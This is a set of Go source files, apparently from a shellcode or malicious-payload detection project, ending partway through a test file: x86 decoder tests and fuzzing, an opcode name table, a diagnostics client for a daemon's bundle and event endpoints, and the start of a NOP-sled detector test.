		t.Error("grp5 /7 should be undefined")
	}
}

func TestRetForms(t *testing.T) {
	i := dec(t, 0xC3)
	if i.Op != OpRET || !i.Flags.Has(FlagRet) || i.Len != 1 {
		t.Errorf("ret: %+v", i)
	}
	i = dec(t, 0xC2, 0x08, 0x00)
	if i.Op != OpRET || i.Len != 3 || i.Imm != 8 {
		t.Errorf("ret imm16: len=%d imm=%d", i.Len, i.Imm)
	}
}

func TestEnter(t *testing.T) {
	i := dec(t, 0xC8, 0x10, 0x00, 0x01)
	if i.Op != OpENTER || i.Len != 4 || i.Imm != 0x10 || i.Imm2 != 1 {
		t.Errorf("enter: len=%d imm=%d imm2=%d", i.Len, i.Imm, i.Imm2)
	}
}

func TestFarForms(t *testing.T) {
	i := dec(t, 0x9A, 0x01, 0x02, 0x03, 0x04, 0x08, 0x00) // callf 0008:04030201
	if i.Op != OpCALLF || i.Len != 7 || !i.Flags.Has(FlagFar) {
		t.Errorf("callf: op=%v len=%d", i.Op, i.Len)
	}
	i = dec(t, 0x66, 0xEA, 0x01, 0x02, 0x08, 0x00) // jmpf with 16-bit offset
	if i.Op != OpJMPF || i.Len != 6 {
		t.Errorf("jmpf16: op=%v len=%d", i.Op, i.Len)
	}
}

func TestSegmentOverrides(t *testing.T) {
	cases := []struct {
		b    byte
		want Seg
	}{
		{0x26, SegES}, {0x2E, SegCS}, {0x36, SegSS},
		{0x3E, SegDS}, {0x64, SegFS}, {0x65, SegGS},
	}
	for _, c := range cases {
		i := dec(t, c.b, 0x8B, 0x01) // seg: mov eax,[ecx]
		if i.Prefixes.Seg != c.want {
			t.Errorf("prefix %#x: seg=%v want %v", c.b, i.Prefixes.Seg, c.want)
		}
		if i.EffectiveSeg() != c.want {
			t.Errorf("prefix %#x: effective=%v", c.b, i.EffectiveSeg())
		}
		if i.Len != 3 {
			t.Errorf("prefix %#x: len=%d", c.b, i.Len)
		}
	}
}

func TestEffectiveSegDefaults(t *testing.T) {
	i := dec(t, 0x8B, 0x01) // mov eax,[ecx]
	if i.EffectiveSeg() != SegDS {
		t.Errorf("default seg for [ecx] = %v, want ds", i.EffectiveSeg())
	}
	i = dec(t, 0x8B, 0x45, 0x00) // mov eax,[ebp+0]
	if i.EffectiveSeg() != SegSS {
		t.Errorf("default seg for [ebp] = %v, want ss", i.EffectiveSeg())
	}
	i = dec(t, 0x90) // nop
	if i.EffectiveSeg() != SegNone {
		t.Errorf("nop effective seg = %v, want none", i.EffectiveSeg())
	}
}

func TestMultiplePrefixesLastSegWins(t *testing.T) {
	i := dec(t, 0x2E, 0x65, 0x90)
	if i.Prefixes.Seg != SegGS || i.Prefixes.Count != 2 || i.Len != 3 {
		t.Errorf("prefixes=%+v len=%d", i.Prefixes, i.Len)
	}
}

func TestSIBForms(t *testing.T) {
	i := dec(t, 0x8B, 0x04, 0x88) // mov eax,[eax+ecx*4]
	if i.MemBase != EAX || i.MemIndex != ECX || i.MemScale != 4 || i.Len != 3 {
		t.Errorf("base=%v index=%v scale=%d len=%d", i.MemBase, i.MemIndex, i.MemScale, i.Len)
	}
	i = dec(t, 0x8B, 0x04, 0x25, 0x78, 0x56, 0x34, 0x12) // mov eax,[0x12345678] via SIB
	if !i.MemDispOnly || i.MemBase != RegNone || i.MemIndex != RegNone {
		t.Errorf("disp-only SIB: dispOnly=%v base=%v index=%v", i.MemDispOnly, i.MemBase, i.MemIndex)
	}
	i = dec(t, 0x8B, 0x44, 0x24, 0x10) // mov eax,[esp+0x10]
	if i.MemBase != ESP || i.Disp != 0x10 || i.Len != 4 {
		t.Errorf("esp form: base=%v disp=%#x len=%d", i.MemBase, i.Disp, i.Len)
	}
}

func TestDispOnlyMod00(t *testing.T) {
	i := dec(t, 0x8B, 0x05, 0x78, 0x56, 0x34, 0x12) // mov eax,[0x12345678]
	if !i.MemDispOnly || i.Disp != 0x12345678 || i.Len != 6 {
		t.Errorf("dispOnly=%v disp=%#x len=%d", i.MemDispOnly, i.Disp, i.Len)
	}
}

func TestModRM16(t *testing.T) {
	i := dec(t, 0x67, 0x8B, 0x47, 0x10) // mov eax,[bx+0x10]
	if i.MemBase != EBX || i.Disp != 0x10 || i.Len != 4 {
		t.Errorf("16-bit: base=%v disp=%#x len=%d", i.MemBase, i.Disp, i.Len)
	}
	i = dec(t, 0x67, 0x8B, 0x06, 0x34, 0x12) // mov eax,[0x1234]
	if !i.MemDispOnly || i.Disp != 0x1234 || i.Len != 5 {
		t.Errorf("16-bit disp: dispOnly=%v disp=%#x len=%d", i.MemDispOnly, i.Disp, i.Len)
	}
	i = dec(t, 0x67, 0x8B, 0x00) // mov eax,[bx+si]
	if i.MemBase != EBX || i.MemIndex != ESI {
		t.Errorf("16-bit pair: base=%v index=%v", i.MemBase, i.MemIndex)
	}
}

func TestBoundRegisterFormUndefined(t *testing.T) {
	i := dec(t, 0x62, 0xC0)
	if !i.Flags.Has(FlagUndefined) {
		t.Error("bound reg,reg should be #UD")
	}
	i = dec(t, 0x62, 0x01) // bound eax,[ecx] — valid form
	if i.Flags.Has(FlagUndefined) {
		t.Error("bound with memory operand is defined")
	}
}

func TestPopEvBadRegField(t *testing.T) {
	i := dec(t, 0x8F, 0xC0) // pop eax via 8F /0 — valid
	if i.Flags.Has(FlagUndefined) {
		t.Error("8F /0 is defined")
	}
	i = dec(t, 0x8F, 0xC8) // 8F /1 — undefined
	if !i.Flags.Has(FlagUndefined) {
		t.Error("8F /1 should be #UD")
	}
}

func TestStringOps(t *testing.T) {
	i := dec(t, 0xA4) // movsb
	if i.Op != OpMOVS || !i.Flags.Has(FlagString) || !i.MemAccess {
		t.Errorf("movsb: %+v", i)
	}
	if i.MemBase != ESI || i.MemIndex != EDI {
		t.Errorf("movsb addressing: base=%v index=%v", i.MemBase, i.MemIndex)
	}
	i = dec(t, 0xAA) // stosb
	if i.MemBase != EDI || !i.MemWrite {
		t.Errorf("stosb: base=%v write=%v", i.MemBase, i.MemWrite)
	}
	i = dec(t, 0xAC) // lodsb
	if i.MemBase != ESI || !i.MemRead || i.MemWrite {
		t.Errorf("lodsb: base=%v", i.MemBase)
	}
}

func TestXlat(t *testing.T) {
	i := dec(t, 0xD7)
	if i.Op != OpXLAT || !i.MemAccess || i.MemBase != EBX {
		t.Errorf("xlat: %+v", i)
	}
}

func TestFPUEscapes(t *testing.T) {
	for b := byte(0xD8); b <= 0xDF; b++ {
		i := dec(t, b, 0x01) // fpu op on [ecx]
		if i.Op != OpFPU || !i.Flags.Has(FlagFPU) || i.Len != 2 {
			t.Errorf("fpu %#x: op=%v len=%d", b, i.Op, i.Len)
		}
	}
	// mod=3 forms are register-stack ops, same length.
	i := dec(t, 0xD9, 0xC0)
	if i.Len != 2 || i.MemAccess {
		t.Errorf("fpu reg form: len=%d mem=%v", i.Len, i.MemAccess)
	}
}

func TestTwoByteOps(t *testing.T) {
	i := dec(t, 0x0F, 0xB6, 0xC1) // movzx eax, cl
	if i.Op != OpMOVZX || i.Len != 3 {
		t.Errorf("movzx: op=%v len=%d", i.Op, i.Len)
	}
	i = dec(t, 0x0F, 0xA2) // cpuid
	if i.Op != OpCPUID || i.Len != 2 {
		t.Errorf("cpuid: op=%v len=%d", i.Op, i.Len)
	}
	i = dec(t, 0x0F, 0x31) // rdtsc
	if i.Op != OpRDTSC {
		t.Errorf("rdtsc: op=%v", i.Op)
	}
	i = dec(t, 0x0F, 0x0B) // ud2
	if !i.Flags.Has(FlagUndefined) {
		t.Error("ud2 should be undefined")
	}
	i = dec(t, 0x0F, 0xC8) // bswap eax
	if i.Op != OpBSWAP || i.Len != 2 {
		t.Errorf("bswap: op=%v len=%d", i.Op, i.Len)
	}
	i = dec(t, 0x0F, 0x94, 0xC0) // sete al
	if i.Op != OpSetcc || i.Mnemonic() != "sete" {
		t.Errorf("sete: op=%v mnemonic=%s", i.Op, i.Mnemonic())
	}
	i = dec(t, 0x0F, 0x44, 0xC1) // cmove eax, ecx
	if i.Op != OpCmovcc || i.Mnemonic() != "cmove" {
		t.Errorf("cmove: %v %s", i.Op, i.Mnemonic())
	}
}

func TestGroup8(t *testing.T) {
	i := dec(t, 0x0F, 0xBA, 0xE0, 0x05) // bt eax, 5
	if i.Op != OpBT || i.Len != 4 || i.Imm != 5 {
		t.Errorf("bt: op=%v len=%d imm=%d", i.Op, i.Len, i.Imm)
	}
	i = dec(t, 0x0F, 0xBA, 0xC0, 0x05) // grp8 /0 — undefined
	if !i.Flags.Has(FlagUndefined) {
		t.Error("grp8 /0 should be undefined")
	}
}

func TestTruncated(t *testing.T) {
	cases := [][]byte{
		{},
		{0xE8},
		{0xE8, 0x01, 0x00},
		{0x8B},
		{0x8B, 0x05, 0x01},
		{0x8B, 0x04},
		{0x68, 0x01, 0x02, 0x03},
		{0x66},
		{0x0F},
		{0xF6, 0x00},
		{0xC8, 0x10, 0x00},
	}
	for _, c := range cases {
		if _, err := Decode(c, 0); !errors.Is(err, ErrTruncated) {
			t.Errorf("Decode(% x) err = %v, want ErrTruncated", c, err)
		}
	}
}

func TestTooManyPrefixes(t *testing.T) {
	code := make([]byte, 20)
	for i := range code {
		code[i] = 0x66
	}
	if _, err := Decode(code, 0); !errors.Is(err, ErrTooManyPrefixes) {
		t.Errorf("err = %v, want ErrTooManyPrefixes", err)
	}
	// Exactly 14 prefixes + 1-byte opcode = 15 bytes is legal.
	code = append(make([]byte, 0, 15), code[:14]...)
	code = append(code, 0x90)
	i, err := Decode(code, 0)
	if err != nil || i.Len != 15 {
		t.Errorf("15-byte nop: len=%d err=%v", i.Len, err)
	}
}

func TestDecodeAtOffset(t *testing.T) {
	code := []byte{0x90, 0x90, 0xE8, 0x00, 0x00, 0x00, 0x00}
	i, err := Decode(code, 2)
	if err != nil {
		t.Fatal(err)
	}
	if i.Offset != 2 || i.Op != OpCALL || i.RelTarget != 7 {
		t.Errorf("offset decode: %+v", i)
	}
}

func TestDecodeAll(t *testing.T) {
	code := []byte{
		0x31, 0xC0, // xor eax,eax
		0x50,       // push eax
		0xCD, 0x80, // int 0x80
		0xE8, // truncated call — dropped
	}
	insts := DecodeAll(code)
	if len(insts) != 3 {
		t.Fatalf("decoded %d instructions, want 3", len(insts))
	}
	want := []Op{OpXOR, OpPUSH, OpINT}
	for i, w := range want {
		if insts[i].Op != w {
			t.Errorf("inst %d: op=%v want %v", i, insts[i].Op, w)
		}
	}
	if insts[2].Offset != 3 {
		t.Errorf("third inst offset=%d", insts[2].Offset)
	}
}

func TestEveryOneByteOpcodeDecodes(t *testing.T) {
	// Every single-opcode instruction with plenty of trailing bytes must
	// decode without error and with a sane length.
	tail := []byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09, 0x0A}
	for b := 0; b < 256; b++ {
		code := append([]byte{byte(b)}, tail...)
		inst, err := Decode(code, 0)
		if err != nil {
			t.Errorf("opcode %#x: %v", b, err)
			continue
		}
		if inst.Len < 1 || inst.Len > MaxInstLen {
			t.Errorf("opcode %#x: len=%d", b, inst.Len)
		}
	}
}

func TestEveryTwoByteOpcodeDecodes(t *testing.T) {
	tail := []byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09}
	for b := 0; b < 256; b++ {
		code := append([]byte{0x0F, byte(b)}, tail...)
		inst, err := Decode(code, 0)
		if err != nil {
			t.Errorf("0F %02x: %v", b, err)
			continue
		}
		if inst.Len < 2 || inst.Len > MaxInstLen {
			t.Errorf("0F %02x: len=%d", b, inst.Len)
		}
		if !inst.TwoByte {
			t.Errorf("0F %02x: TwoByte not set", b)
		}
	}
}

func TestDecodeNeverPanicsProperty(t *testing.T) {
	f := func(code []byte) bool {
		if len(code) == 0 {
			return true
		}
		inst, err := Decode(code, 0)
		if err != nil {
			return errors.Is(err, ErrTruncated) || errors.Is(err, ErrTooManyPrefixes)
		}
		return inst.Len >= 1 && inst.Len <= MaxInstLen && inst.Len <= len(code)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20000}); err != nil {
		t.Fatal(err)
	}
}

func TestDecodeDeterministicProperty(t *testing.T) {
	f := func(code []byte) bool {
		if len(code) == 0 {
			return true
		}
		a, errA := Decode(code, 0)
		b, errB := Decode(code, 0)
		if (errA == nil) != (errB == nil) {
			return false
		}
		return a == b
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Fatal(err)
	}
}

func TestTextBytesAlwaysDecodable(t *testing.T) {
	// Any stream of printable bytes long enough must decode at offset 0:
	// the paper's observation that "almost any text string translates
	// into a syntactically correct sequence of instructions".
	r := testRNG()
	for trial := 0; trial < 500; trial++ {
		code := make([]byte, 32)
		for i := range code {
			code[i] = byte(0x20 + r.Intn(0x5F))
		}
		if _, err := Decode(code, 0); err != nil {
			t.Fatalf("text stream % x failed: %v", code[:8], err)
		}
	}
}

func TestInstString(t *testing.T) {
	i := dec(t, 0x29, 0x41, 0x41)
	if got := i.String(); got != "sub [ecx+0x41]" {
		t.Errorf("String() = %q", got)
	}
	i = dec(t, 0x90)
	if got := i.String(); got != "nop" {
		t.Errorf("String() = %q", got)
	}
	i = dec(t, 0x68, 0x41, 0x41, 0x41, 0x41)
	if got := i.String(); got != "push 0x41414141" {
		t.Errorf("String() = %q", got)
	}
}

func TestRegSegStrings(t *testing.T) {
	if EAX.String() != "eax" || EDI.String() != "edi" || RegNone.String() != "none" {
		t.Error("register names wrong")
	}
	if SegGS.String() != "gs" || SegNone.String() != "" {
		t.Error("segment names wrong")
	}
	if Seg(99).String() != "?" {
		t.Error("out-of-range segment name")
	}
}

func TestOpStrings(t *testing.T) {
	if OpSUB.String() != "sub" || OpInvalid.String() != "(bad)" {
		t.Error("op names wrong")
	}
	if Op(9999).String() != "(unknown)" {
		t.Error("unknown op name")
	}
}

// testRNG returns a tiny deterministic generator local to this package's
// tests (avoiding a dependency on internal/stats from the decoder).
type miniRNG struct{ s uint64 }

func testRNG() *miniRNG { return &miniRNG{s: 0x12345678} }

func (r *miniRNG) Intn(n int) int {
	r.s ^= r.s << 13
	r.s ^= r.s >> 7
	r.s ^= r.s << 17
	return int(r.s % uint64(n))
}

package x86

// Op identifies an instruction operation. Condition-code families (Jcc,
// SETcc, CMOVcc) are collapsed into a single Op with the condition held in
// Inst.Cond.
type Op int16

// Operation identifiers.
const (
	OpInvalid Op = iota // undefined opcode (#UD)
	OpAAA
	OpAAD
	OpAAM
	OpAAS
	OpADC
	OpADD
	OpAND
	OpARPL
	OpBOUND
	OpBSF
	OpBSR
	OpBSWAP
	OpBT
	OpBTC
	OpBTR
	OpBTS
	OpCALL
	OpCALLF
	OpCDQ
	OpCLC
	OpCLD
	OpCLI
	OpCLTS
	OpCMC
	OpCMP
	OpCMPS
	OpCMPXCHG
	OpCMPXCHG8B
	OpCPUID
	OpCWDE
	OpCmovcc
	OpDAA
	OpDAS
	OpDEC
	OpDIV
	OpEMMS
	OpENTER
	OpFPU
	OpHLT
	OpIDIV
	OpIMUL
	OpIN
	OpINC
	OpINS
	OpINT
	OpINT1
	OpINT3
	OpINTO
	OpINVD
	OpINVLPG
	OpIRET
	OpJECXZ
	OpJMP
	OpJMPF
	OpJcc
	OpLAHF
	OpLAR
	OpLDS
	OpLEA
	OpLEAVE
	OpLES
	OpLFS
	OpLGS
	OpLODS
	OpLOOP
	OpLOOPE
	OpLOOPNE
	OpLSL
	OpLSS
	OpMMX
	OpMOV
	OpMOVCR
	OpMOVDR
	OpMOVS
	OpMOVSX
	OpMOVZX
	OpMUL
	OpNEG
	OpNOP
	OpNOT
	OpOR
	OpOUT
	OpOUTS
	OpPOP
	OpPOPA
	OpPOPF
	OpPUSH
	OpPUSHA
	OpPUSHF
	OpRCL
	OpRCR
	OpRDMSR
	OpRDPMC
	OpRDTSC
	OpRET
	OpRETF
	OpROL
	OpROR
	OpRSM
	OpSAHF
	OpSALC
	OpSAR
	OpSBB
	OpSCAS
	OpSHL
	OpSHLD
	OpSHR
	OpSHRD
	OpSSE
	OpSTC
	OpSTD
	OpSTI
	OpSTOS
	OpSUB
	OpSYSENTER
	OpSYSEXIT
	OpSetcc
	OpSysGrp6
	OpSysGrp7
	OpTEST
	OpUD2
	OpWAIT
	OpWBINVD
	OpWRMSR
	OpXADD
	OpXCHG
	OpXLAT
	OpXOR
	opMax // sentinel; keep last
)

var opNames = map[Op]string{
	OpInvalid:   "(bad)",
	OpAAA:       "aaa",
	OpAAD:       "aad",
	OpAAM:       "aam",
	OpAAS:       "aas",
	OpADC:       "adc",
	OpADD:       "add",
	OpAND:       "and",
	OpARPL:      "arpl",
	OpBOUND:     "bound",
	OpBSF:       "bsf",
	OpBSR:       "bsr",
	OpBSWAP:     "bswap",
	OpBT:        "bt",
	OpBTC:       "btc",
	OpBTR:       "btr",
	OpBTS:       "bts",
	OpCALL:      "call",
	OpCALLF:     "callf",
	OpCDQ:       "cdq",
	OpCLC:       "clc",
	OpCLD:       "cld",
	OpCLI:       "cli",
	OpCLTS:      "clts",
	OpCMC:       "cmc",
	OpCMP:       "cmp",
	OpCMPS:      "cmps",
	OpCMPXCHG:   "cmpxchg",
	OpCMPXCHG8B: "cmpxchg8b",
	OpCPUID:     "cpuid",
	OpCWDE:      "cwde",
	OpCmovcc:    "cmovcc",
	OpDAA:       "daa",
	OpDAS:       "das",
	OpDEC:       "dec",
	OpDIV:       "div",
	OpEMMS:      "emms",
	OpENTER:     "enter",
	OpFPU:       "fpu",
	OpHLT:       "hlt",
	OpIDIV:      "idiv",
	OpIMUL:      "imul",
	OpIN:        "in",
	OpINC:       "inc",
	OpINS:       "ins",
	OpINT:       "int",
	OpINT1:      "int1",
	OpINT3:      "int3",
	OpINTO:      "into",
	OpINVD:      "invd",
	OpINVLPG:    "invlpg",
	OpIRET:      "iret",
	OpJECXZ:     "jecxz",
	OpJMP:       "jmp",
	OpJMPF:      "jmpf",
	OpJcc:       "jcc",
	OpLAHF:      "lahf",
	OpLAR:       "lar",
	OpLDS:       "lds",
	OpLEA:       "lea",
	OpLEAVE:     "leave",
	OpLES:       "les",
	OpLFS:       "lfs",
	OpLGS:       "lgs",
	OpLODS:      "lods",
	OpLOOP:      "loop",
	OpLOOPE:     "loope",
	OpLOOPNE:    "loopne",
	OpLSL:       "lsl",
	OpLSS:       "lss",
	OpMMX:       "mmx",
	OpMOV:       "mov",
	OpMOVCR:     "movcr",
	OpMOVDR:     "movdr",
	OpMOVS:      "movs",
	OpMOVSX:     "movsx",
	OpMOVZX:     "movzx",
	OpMUL:       "mul",
	OpNEG:       "neg",
	OpNOP:       "nop",
	OpNOT:       "not",
	OpOR:        "or",
	OpOUT:       "out",
	OpOUTS:      "outs",
	OpPOP:       "pop",
	OpPOPA:      "popa",
	OpPOPF:      "popf",
	OpPUSH:      "push",
	OpPUSHA:     "pusha",
	OpPUSHF:     "pushf",
	OpRCL:       "rcl",
	OpRCR:       "rcr",
	OpRDMSR:     "rdmsr",
	OpRDPMC:     "rdpmc",
	OpRDTSC:     "rdtsc",
	OpRET:       "ret",
	OpRETF:      "retf",
	OpROL:       "rol",
	OpROR:       "ror",
	OpRSM:       "rsm",
	OpSAHF:      "sahf",
	OpSALC:      "salc",
	OpSAR:       "sar",
	OpSBB:       "sbb",
	OpSCAS:      "scas",
	OpSHL:       "shl",
	OpSHLD:      "shld",
	OpSHR:       "shr",
	OpSHRD:      "shrd",
	OpSSE:       "sse",
	OpSTC:       "stc",
	OpSTD:       "std",
	OpSTI:       "sti",
	OpSTOS:      "stos",
	OpSUB:       "sub",
	OpSYSENTER:  "sysenter",
	OpSYSEXIT:   "sysexit",
	OpSetcc:     "setcc",
	OpSysGrp6:   "sysgrp6",
	OpSysGrp7:   "sysgrp7",
	OpTEST:      "test",
	OpUD2:       "ud2",
	OpWAIT:      "wait",
	OpWBINVD:    "wbinvd",
	OpWRMSR:     "wrmsr",
	OpXADD:      "xadd",
	OpXCHG:      "xchg",
	OpXLAT:      "xlat",
	OpXOR:       "xor",
}

// String returns the lower-case mnemonic for the operation.
func (o Op) String() string {
	if s, ok := opNames[o]; ok {
		return s
	}
	return "(unknown)"
}

package x86

import (
	"errors"
	"testing"
)

// FuzzDecode drives the decoder with arbitrary byte strings: it must
// never panic, always report a length within the architectural bounds,
// and be self-consistent when re-invoked. Run with
// `go test -fuzz=FuzzDecode ./internal/x86` for continuous fuzzing; the
// seed corpus runs on every ordinary `go test`.
func FuzzDecode(f *testing.F) {
	seeds := [][]byte{
		{0x90},
		{0x31, 0xC0},
		{0xE8, 0x01, 0x00, 0x00, 0x00},
		{0x0F, 0x84, 0x00, 0x01, 0x00, 0x00},
		{0x66, 0x67, 0xF0, 0x8B, 0x44, 0x24, 0x10},
		{0xF6, 0x00, 0x7F},
		{0xC8, 0x10, 0x00, 0x01},
		{0x0F, 0xBA, 0xE0, 0x05},
		{0x62, 0xC0},
		[]byte("GET /index.html HTTP/1.1"),
		{0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x90},
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) == 0 {
			return
		}
		inst, err := Decode(data, 0)
		if err != nil {
			if !errors.Is(err, ErrTruncated) && !errors.Is(err, ErrTooManyPrefixes) {
				t.Fatalf("unexpected error class: %v", err)
			}
			return
		}
		if inst.Len < 1 || inst.Len > MaxInstLen || inst.Len > len(data) {
			t.Fatalf("bad length %d for % x", inst.Len, data[:minInt(len(data), 16)])
		}
		// Deterministic.
		again, err2 := Decode(data, 0)
		if err2 != nil || again != inst {
			t.Fatalf("non-deterministic decode of % x", data[:minInt(len(data), 16)])
		}
		// Rendering must not panic and must be non-empty.
		if inst.String() == "" || inst.Mnemonic() == "" {
			t.Fatal("empty rendering")
		}
		// Linear sweep over the whole input must terminate.
		insts := DecodeAll(data)
		var covered int
		for i := range insts {
			covered += insts[i].Len
		}
		if covered > len(data) {
			t.Fatalf("linear sweep covered %d of %d bytes", covered, len(data))
		}
	})
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}

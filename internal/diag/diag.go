// Package diag is the client side of the daemon's diagnostic surface:
// it lists and fetches anomaly bundles from /debug/bundles and tails
// the wide-event journal from /debug/events. cmd/meldiag is a thin
// CLI over this package; tests drive it against a live daemon.
package diag

import (
	"archive/tar"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"time"

	"repro/internal/telemetry/anomaly"
	"repro/internal/telemetry/events"
)

// Client talks to one daemon's metrics sidecar (the -metrics listener).
type Client struct {
	// Base is the sidecar root, e.g. "http://127.0.0.1:9090". A bare
	// host:port is accepted and gets the scheme prefixed.
	Base string
	// HTTP overrides the transport; nil uses a 10s-timeout default.
	HTTP *http.Client
}

// New normalizes addr (host:port or full URL) into a Client.
func New(addr string) *Client {
	if !strings.Contains(addr, "://") {
		addr = "http://" + addr
	}
	return &Client{Base: strings.TrimRight(addr, "/")}
}

func (c *Client) httpc() *http.Client {
	if c.HTTP != nil {
		return c.HTTP
	}
	return &http.Client{Timeout: 10 * time.Second}
}

// get fetches path?query and decodes the JSON body into out.
func (c *Client) get(path string, query url.Values, out any) error {
	u := c.Base + path
	if len(query) > 0 {
		u += "?" + query.Encode()
	}
	resp, err := c.httpc().Get(u)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
		return fmt.Errorf("GET %s: %s: %s", u, resp.Status, strings.TrimSpace(string(body)))
	}
	return json.NewDecoder(resp.Body).Decode(out)
}

// List returns the bundle listing (newest first) with live burn
// statuses when the daemon runs a detector.
func (c *Client) List() (anomaly.BundlesPage, error) {
	var page anomaly.BundlesPage
	err := c.get("/debug/bundles", nil, &page)
	return page, err
}

// Manifest fetches one bundle's manifest.
func (c *Client) Manifest(id string) (anomaly.Manifest, error) {
	var m anomaly.Manifest
	q := url.Values{"id": {id}, "file": {"manifest.json"}}
	err := c.get("/debug/bundles", q, &m)
	return m, err
}

// Fetch downloads bundle id as a tar stream and unpacks it under
// destDir, returning the extracted file paths. Entry names outside the
// bundle directory are rejected.
func (c *Client) Fetch(id, destDir string) ([]string, error) {
	u := c.Base + "/debug/bundles?" + url.Values{"id": {id}}.Encode()
	resp, err := c.httpc().Get(u)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
		return nil, fmt.Errorf("GET %s: %s: %s", u, resp.Status, strings.TrimSpace(string(body)))
	}
	var extracted []string
	tr := tar.NewReader(resp.Body)
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			return extracted, err
		}
		if hdr.Typeflag != tar.TypeReg {
			continue
		}
		// Entries are id/<name>; reject anything that would escape.
		name := filepath.Clean(hdr.Name)
		if filepath.IsAbs(name) || strings.HasPrefix(name, "..") || strings.Contains(name, string(filepath.Separator)+"..") {
			return extracted, fmt.Errorf("tar entry escapes destination: %q", hdr.Name)
		}
		dest := filepath.Join(destDir, name)
		if err := os.MkdirAll(filepath.Dir(dest), 0o755); err != nil {
			return extracted, err
		}
		f, err := os.OpenFile(dest, os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o644)
		if err != nil {
			return extracted, err
		}
		_, cpErr := io.Copy(f, tr)
		clErr := f.Close()
		if cpErr != nil {
			return extracted, cpErr
		}
		if clErr != nil {
			return extracted, clErr
		}
		extracted = append(extracted, dest)
	}
	if len(extracted) == 0 {
		return nil, errors.New("empty bundle tar")
	}
	sort.Strings(extracted)
	return extracted, nil
}

// EventsQuery carries the /debug/events filters.
type EventsQuery struct {
	N       int
	Verdict string
	MinMs   float64
	Trace   string
	SinceNs int64
}

func (q EventsQuery) values() url.Values {
	v := url.Values{}
	if q.N > 0 {
		v.Set("n", strconv.Itoa(q.N))
	}
	if q.Verdict != "" {
		v.Set("verdict", q.Verdict)
	}
	if q.MinMs > 0 {
		v.Set("min_ms", strconv.FormatFloat(q.MinMs, 'f', -1, 64))
	}
	if q.Trace != "" {
		v.Set("trace", q.Trace)
	}
	if q.SinceNs > 0 {
		v.Set("since_ns", strconv.FormatInt(q.SinceNs, 10))
	}
	return v
}

// Events fetches one page of the journal.
func (c *Client) Events(q EventsQuery) (events.Page, error) {
	var page events.Page
	err := c.get("/debug/events", q.values(), &page)
	return page, err
}

// Tail polls /debug/events every interval, printing events newer than
// the last seen start time, until stop closes. The first poll prints
// the current page so the caller sees context immediately.
func (c *Client) Tail(w io.Writer, q EventsQuery, interval time.Duration, stop <-chan struct{}) error {
	if interval <= 0 {
		interval = time.Second
	}
	t := time.NewTicker(interval)
	defer t.Stop()
	for {
		page, err := c.Events(q)
		if err != nil {
			return err
		}
		// The page is newest-first; print oldest-first and advance the
		// since cursor past everything seen.
		for i := len(page.Events) - 1; i >= 0; i-- {
			e := &page.Events[i]
			fmt.Fprintln(w, FormatEvent(e))
			if e.StartUnixNs >= q.SinceNs {
				q.SinceNs = e.StartUnixNs + 1
			}
		}
		select {
		case <-stop:
			return nil
		case <-t.C:
		}
	}
}

// FormatEvent renders one journal event as a log line.
func FormatEvent(e *events.EventJSON) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %7.3fms %6dB mel=%d tau=%.1f cause=%s",
		time.Unix(0, e.StartUnixNs).UTC().Format("15:04:05.000"),
		float64(e.TotalNs)/1e6, e.Bytes, e.MEL, e.Threshold, e.Cause)
	if e.Malicious {
		b.WriteString(" MALICIOUS")
	}
	if e.Cached {
		b.WriteString(" cached")
	}
	if e.DecodeChain != "" {
		fmt.Fprintf(&b, " chain=%s", e.DecodeChain)
	}
	if e.TriageCleared {
		b.WriteString(" triage-cleared")
	}
	if e.Trace != "" {
		fmt.Fprintf(&b, " trace=%s", e.Trace)
	}
	return b.String()
}

// FormatManifest pretty-prints one bundle manifest.
func FormatManifest(w io.Writer, m *anomaly.Manifest) {
	fmt.Fprintf(w, "bundle   %s\n", m.ID)
	fmt.Fprintf(w, "captured %s\n", time.Unix(0, m.TimeUnixNs).UTC().Format(time.RFC3339))
	fmt.Fprintf(w, "reason   %s\n", m.Reason)
	fmt.Fprintf(w, "files    %d\n", len(m.Files))
	for _, f := range m.Files {
		if f.Err != "" {
			fmt.Fprintf(w, "  %-24s ERROR: %s\n", f.Name, f.Err)
			continue
		}
		fmt.Fprintf(w, "  %-24s %8d bytes\n", f.Name, f.Bytes)
	}
}

// FormatList pretty-prints the bundle listing and burn statuses.
func FormatList(w io.Writer, page *anomaly.BundlesPage) {
	fmt.Fprintf(w, "%d bundle(s) in %s\n", page.Count, page.Dir)
	for _, m := range page.Bundles {
		fmt.Fprintf(w, "  %s  %s  %d files  %s\n",
			m.ID, time.Unix(0, m.TimeUnixNs).UTC().Format(time.RFC3339), len(m.Files), m.Reason)
	}
	for _, st := range page.Statuses {
		state := "ok"
		if st.Tripped {
			state = "TRIPPED"
		}
		fmt.Fprintf(w, "  slo %-8s burn short=%.2f long=%.2f  %s\n",
			st.Signal, st.BurnShort, st.BurnLong, state)
	}
}

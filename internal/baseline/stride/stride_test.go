package stride

import (
	"testing"

	"repro/internal/corpus"
	"repro/internal/shellcode"
)

func TestDefaults(t *testing.T) {
	d := New(0, 0)
	if d.window != DefaultWindow || d.minRun != DefaultMinRun {
		t.Errorf("defaults not applied: %d %d", d.window, d.minRun)
	}
}

func TestEmptyAndShortPayloads(t *testing.T) {
	d := New(30, 4)
	if _, err := d.Scan(nil); err == nil {
		t.Error("empty payload should fail")
	}
	v, err := d.Scan([]byte{0x90, 0x90})
	if err != nil {
